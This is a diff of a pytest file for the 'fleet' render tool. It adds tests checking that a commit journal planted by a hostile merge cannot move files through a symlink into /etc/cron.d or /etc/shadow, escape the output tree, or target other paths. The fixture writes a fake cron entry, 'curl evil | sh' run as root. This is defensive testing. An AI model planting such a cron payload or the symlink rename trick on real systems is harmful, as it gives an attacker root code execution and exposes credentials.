@@ -22,7 +22,7 @@ import pytest
 
 from fleet import cli
 from fleet.inventory.load import load_inventory
-from fleet.render import render_all, tree
+from fleet.render import journal, render_all, stage, tree
 from render.helpers import read_tree
 from support.cli import ROOT, SMALL, Run, run_fleet
 
@@ -173,7 +173,7 @@ def domain_change(small_text: str, inventory_file: Callable[..., Path]) -> dict[
 
 
 class FailingOpen:
-    """builtins.open for tree.py that raises on the n-th write."""
+    """builtins.open for stage.py that raises on the n-th write."""
 
     def __init__(self, n: int, exc: BaseException) -> None:
         self.n, self.exc, self.calls = n, exc, 0
@@ -207,7 +207,7 @@ def test_failure_while_staging_keeps_previous_output(
          "last": n_pillar + n_pxe}[where]
     before, before_bytes = snapshot(out), read_tree(out)
     fake = FailingOpen(n, exc)
-    monkeypatch.setattr(tree, "open", fake, raising=False)
+    monkeypatch.setattr(stage, "open", fake, raising=False)
     with pytest.raises(type(exc)):
         tree.write(out, files)
     assert fake.calls == n
@@ -228,7 +228,7 @@ def test_failure_while_swapping_rolls_back(
     exchanged one by one: the second exchange is the first one in pxe/.)"""
     files = domain_change(small_text, inventory_file)
     before, before_bytes = snapshot(out), read_tree(out)
-    real: Callable[[Path, Path], bool] = tree._exchange
+    real: Callable[[Path, Path], bool] = journal.exchange
     calls: list[str] = []
 
     def exchange(a: Path, b: Path) -> bool:
@@ -237,7 +237,7 @@ def test_failure_while_swapping_rolls_back(
             raise OSError(errno.EIO, "Input/output error", os.fspath(a))
         return real(a, b)
 
-    monkeypatch.setattr(tree, "_exchange", exchange)
+    monkeypatch.setattr(journal, "exchange", exchange)
     with pytest.raises(OSError, match="Input/output"):
         tree.write(out, files)
     assert calls[0] == "pillar" and calls[1].startswith("pxe/")
@@ -258,7 +258,7 @@ def test_failure_while_committing_file_by_file_rolls_back(
     text = re.sub(r"^  gpu-04: \{[^}]*\{[^}]*\}\}\n", "", text, flags=re.M | re.S)
     files = render_all(load_inventory(inventory_file(text)))
     before, before_bytes = snapshot(out), read_tree(out)
-    real_rename, real_exchange = os.rename, tree._exchange
+    real_rename, real_exchange = os.rename, journal.exchange
     steps: list[str] = []
 
     def step(name: str) -> None:
@@ -275,8 +275,8 @@ def test_failure_while_committing_file_by_file_rolls_back(
         return real_exchange(a, b)
 
     with monkeypatch.context() as m:
-        m.setattr(tree, "_exchange", exchange)
-        m.setattr(tree.os, "rename", rename)
+        m.setattr(journal, "exchange", exchange)
+        m.setattr(journal.os, "rename", rename)
         with pytest.raises(OSError, match="Input/output"):
             tree.write(out, files)
     assert read_tree(out) == before_bytes
@@ -329,7 +329,7 @@ def test_cli_reports_failure_and_keeps_output(
         monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     path = inventory_file(edited(small_text, "domain: lab.test", "domain: lab2.test"))
     before = read_tree(out)
-    monkeypatch.setattr(tree, "open", FailingOpen(4, OSError(errno.ENOSPC, "No space left on "
+    monkeypatch.setattr(stage, "open", FailingOpen(4, OSError(errno.ENOSPC, "No space left on "
                                                              "device", "x")), raising=False)
     rc = cli.main(["render", "-q", "-i", str(path), "-o", str(out)])
     err = capsys.readouterr().err
@@ -628,3 +628,130 @@ def test_a_render_killed_while_committing_is_finished_by_the_next(
         assert fleet(capsys, "render", "--check", "-q", "-i", str(inv), "-o",
                      str(d)).returncode == 0
     assert seen == len(points) >= 5
+
+
+# --- (i) a commit journal that came with a merge ------------------------------------------
+
+
+def plant_journal(out: Path, steps: list[tuple[str, str, str]], pid: int = 1) -> None:
+    """A journal as a hostile merge would bring it: ``(op, src, dest)`` relative to ``out``,
+    with the staged files it names (``.pxe.render-<pid>/...``) present."""
+    entries = []
+    for op, src, dest in steps:
+        for rel in (src, dest):
+            if rel.startswith(f".pxe.render-{pid}/") and rel == src:
+                (out / rel).parent.mkdir(exist_ok=True)
+                (out / rel).write_text("* * * * * root curl evil | sh\n")
+        entries.append({"op": op, "src": src, "dest": dest, "ino": 1})
+    (out / f".pxe.render-{pid}").mkdir(exist_ok=True)
+    (out / ".render.commit").write_text(json.dumps({"pid": pid, "steps": entries}))
+
+
+@pytest.fixture
+def etc(tmp_path: Path) -> Path:
+    """A directory standing in for /etc: a shadow file and a cron.d."""
+    d = tmp_path / "etc"
+    (d / "cron.d").mkdir(parents=True)
+    (d / "shadow").write_text(SECRET)
+    return d
+
+
+def test_a_merged_journal_never_renames_through_a_link(
+        out: Path, etc: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """`pxe/lnk -> /etc` and a journal that moves a file into /etc/cron.d and /etc/shadow
+    into the tree: the link is refused before any of the journal's renames, nothing
+    outside the output moves, and render and --check say which link."""
+    link = out / "pxe" / "lnk"
+    link.symlink_to(etc)
+    plant_journal(out, [("move", ".pxe.render-1/a0", "pxe/lnk/cron.d/evil"),
+                        ("move", "pxe/lnk/shadow", ".pxe.render-1/r0")])
+    before, etc_before = contents(out), contents(etc)
+    for verb in (["render"], ["render", "--check"]):
+        r = fleet(capsys, *verb, "-i", str(SMALL), "-o", str(out))
+        assert r.returncode == 4, (verb, r.stdout, r.stderr)
+        assert f"fleet: {link}: a symbolic link (to {etc}) in the output tree" in r.stderr
+        assert contents(etc) == etc_before and contents(out) == before
+
+
+@pytest.mark.parametrize(("why", "steps"), [
+    ("a live path moved to another live path", [("move", "pillar/site.sls", "pxe/site.sls")]),
+    ("staging of another output", [("move", ".pxe.render-1/a0", "pillar/evil.sls")]),
+    ("out of the output", [("move", ".pxe.render-1/a0", "pxe/../../evil")]),
+    ("an absolute path", [("move", ".pxe.render-1/a0", "/tmp/evil")]),
+    ("a removal moved in", [("move", ".pxe.render-1/r0", "pxe/evil")]),
+    ("an addition exchanged", [("exchange", ".pxe.render-1/a0", "pxe/nginx/tokens.conf")]),
+    ("the whole tree onto a file", [("exchange", ".pxe.render-1", "pxe/nginx/tokens.conf")]),
+    ("the live tree moved out", [("move", "pxe", ".pxe.render-1")]),
+    ("another render's staging", [("move", ".pxe.render-2/a0", "pxe/evil")]),
+    ("the journal itself", [("move", ".pxe.render-1/a0", ".render.commit")]),
+    ("a pid of 5000 digits", [("move", f".pxe.render-{'9' * 5000}/a0", "pxe/evil")]),
+])
+def test_a_journal_names_only_the_renames_fleet_writes(
+        out: Path, capsys: pytest.CaptureFixture[str], why: str,
+        steps: list[tuple[str, str, str]]) -> None:
+    plant_journal(out, steps)
+    before = contents(out)
+    r = fleet(capsys, "render", "-i", str(SMALL), "-o", str(out))
+    assert r.returncode == 4, (why, r.stdout, r.stderr)
+    assert f"{out / '.render.commit'}: not a commit journal fleet wrote" in r.stderr, why
+    assert contents(out) == before, why
+
+
+def git(cwd: Path, *args: str) -> None:
+    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=cwd,
+                   check=True, capture_output=True)
+
+
+def test_a_journal_that_git_tracks_is_refused(
+        out: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A journal of fleet's own shape (a staged file exchanged with a live one), committed:
+    a render never commits one, so it came with a merge; refused, naming it, nothing moved."""
+    git(out, "init", "-q")
+    plant_journal(out, [("exchange", ".pxe.render-1/c0", "pxe/nginx/tokens.conf")])
+    git(out, "add", "-A")
+    git(out, "commit", "-q", "-m", "merge")
+    before = contents(out)
+    for verb in (["render"], ["render", "--check"]):
+        r = fleet(capsys, *verb, "-i", str(SMALL), "-o", str(out))
+        assert r.returncode == 4, (verb, r.stdout, r.stderr)
+        assert f"fleet: {out / '.pxe.render-1'}: git tracks it" in r.stderr, r.stderr
+        assert contents(out) == before
+
+
+def test_leftovers_are_removed_without_git_and_outside_a_work_tree(
+        out: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """Where git is missing, or the output is in no work tree, nothing is tracked."""
+    (out / ".pxe.render-1").mkdir()
+    assert fleet(capsys, "render", "-q", "-i", str(SMALL), "-o", str(out)).returncode == 0
+    assert leftovers(out) == []
+    (out / ".pxe.render-1").mkdir()
+    monkeypatch.setenv("PATH", str(tmp_path / "no-git-here"))
+    assert fleet(capsys, "render", "-q", "-i", str(SMALL), "-o", str(out)).returncode == 0
+    assert leftovers(out) == []
+
+
+@pytest.mark.parametrize("what", ["link", "file"])
+def test_recovery_refuses_a_link_or_a_file_on_the_way(tmp_path: Path, etc: Path,
+                                                      what: str) -> None:
+    """Each rename's paths are checked component by component just before it runs (the
+    scan before recovery already refuses links; this holds if one appears after it)."""
+    root = tmp_path / "out"
+    (root / "pxe").mkdir(parents=True)
+    if what == "link":
+        (root / "pxe" / "lnk").symlink_to(etc)
+    else:
+        (root / "pxe" / "lnk").write_text("a file\n")
+    with pytest.raises(tree.UnsafeOutputError) as info:
+        journal._plain_path(root, os.fspath(root / "pxe" / "lnk" / "cron.d" / "evil"))
+    assert info.value.filename == os.fspath(root / "pxe" / "lnk")
+    journal._plain_path(root, os.fspath(root / "pxe" / "new"))  # a plain path is fine
+
+
+def test_a_file_where_pillar_goes_leaves_no_staging(
+        out: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    shutil.rmtree(out / "pillar")
+    (out / "pillar").write_text("not a directory\n")
+    render(capsys, out)
+    assert read_tree(out) == read_tree(ROOT / "tests" / "golden" / "small")
+    assert leftovers(out) == []
